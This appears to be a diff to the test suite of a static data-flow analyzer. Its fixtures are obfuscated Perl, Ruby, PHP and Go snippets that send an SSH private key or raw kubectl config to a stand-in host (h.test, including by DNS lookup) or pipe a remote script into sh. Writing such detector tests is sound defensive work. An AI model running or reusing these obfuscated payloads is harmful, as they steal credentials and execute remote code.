@@ -124,7 +124,7 @@ describe('what leaves and what runs', () => {
       `my $w = pack('H*', '6375726c202d6673204070'); $w =~ s/\\@p/https:\\/\\/h.test\\/w/;\nsystem("$w --data-binary \\@/root/.ssh/id_rsa");`,
       'content:ssh network:body h.test',
     ],
-    ['rb', 'system(["Y3VybCBodHRwczovL2gudGVzdC9pLnNoIHwgc2g="].pack("m"))', 'net shell:stdin h.test'],
+    ['rb', 'system("Y3VybCBodHRwczovL2gudGVzdC9pLnNoIHwgc2g=".unpack1("m"))', 'net shell:stdin h.test'],
     ['php', "$f = strrev('metsys'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
     ['php', "$f = str_replace('x', '', 'sxysxtem'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
     ['php', "$f = hex2bin('73797374656d'); $f('curl https://h.test/i.sh | sh');", 'net shell:stdin h.test'],
@@ -141,6 +141,23 @@ describe('what leaves and what runs', () => {
     ],
   ])('%s: %s', (language, text, flow) => {
     expect(flows(language, text)).toContain(flow);
+  });
+});
+
+describe('files of one package', () => {
+  it('know the names of one another in Go', () => {
+    const files = {
+      'tool/main.go':
+        'package main\nfunc main() { check() }\nfunc ask(args ...string) []byte {\n\tout, _ := exec.Command("kubectl", args...).Output()\n\treturn out\n}',
+      'tool/dns.go':
+        'package main\nfunc check() {\n\tcfg := ask("config", "view", "--raw")\n\tnet.LookupHost(string(cfg) + ".q.h.test")\n}',
+    };
+    const found = run(files)
+      .flows()
+      .filter((one) => one.to === 'dns');
+    expect(found.some((one) => one.from.includes('process'))).toBe(true);
+    const apart = run({ 'a/main.go': files['tool/main.go'], 'b/dns.go': files['tool/dns.go'] });
+    expect(apart.flows().some((one) => one.to === 'dns' && one.from.includes('process'))).toBe(false);
   });
 });
 
